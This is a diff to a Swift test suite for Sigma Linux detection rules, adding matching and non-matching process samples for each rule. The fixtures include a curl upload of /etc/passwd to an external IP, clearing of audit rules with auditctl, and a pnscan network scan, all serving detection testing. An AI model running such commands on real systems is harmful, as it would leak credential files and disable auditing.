@@ -113,6 +113,29 @@ enum SigmaHQCases {
             path: pc("proc_creation_lnx_crontab_removal.yml"),
             match: P("/usr/bin/crontab", ["crontab", "-r"]), miss: P("/usr/bin/crontab", ["crontab", "-l"]),
             reason: "lists instead of removing"),
+        SigmaCase(
+            path: pc("proc_creation_lnx_pnscan_binary_cli_pattern.yml"),
+            match: ECS.process("/usr/bin/pnscan", ["pnscan", "-W", "aa bb cc", "10.0.0.0/24", "80"], commandLine: "pnscan -W \"aa bb cc\" 10.0.0.0/24 80"),
+            miss: ECS.process("/usr/bin/pnscan", ["pnscan", "-w", "aa bb cc", "10.0.0.0/24", "80"], commandLine: "pnscan -w \"aa bb cc\" 10.0.0.0/24 80"),
+            reason: "-w where the case-sensitive regex wants -W"),
+        SigmaCase(
+            path: pc("proc_creation_lnx_susp_inod_listing.yml"),
+            match: P("/usr/bin/ls", ["ls", "-ldi", "/"]), miss: P("/usr/bin/ls", ["ls", "-li", "/"]),
+            reason: "no -d, so the second regex does not hold"),
+        SigmaCase(
+            path: pc("proc_creation_lnx_auditctl_clear_rules.yml"),
+            match: P("/usr/sbin/auditctl", ["auditctl", "-D"]), miss: P("/usr/sbin/auditctl", ["auditctl", "-d", "always,exit"]),
+            reason: "-d deletes one rule; the regex is case-sensitive"),
+        SigmaCase(
+            path: pc("proc_creation_lnx_susp_curl_fileupload.yml"),
+            match: P("/usr/bin/curl", ["curl", "-F", "f=@/etc/passwd", "http://203.0.113.9/u"]),
+            miss: P("/usr/bin/curl", ["curl", "-F", "f=@/etc/passwd", "http://127.0.0.1/u"]),
+            reason: "uploads to localhost (filter)"),
+        SigmaCase(
+            path: pc("proc_creation_lnx_susp_interactive_bash.yml"),
+            match: P("/usr/bin/whoami", ["whoami"], parent: "/usr/bin/bash", parentArgs: ["bash", "-i"]),
+            miss: P("/usr/bin/whoami", ["whoami"], parent: "/usr/bin/bash", parentArgs: ["bash", "-il"]),
+            reason: "parent command line is 'bash -il', not exactly 'bash -i'"),
     ]
 
     static let auditdRules: [SigmaCase] = [
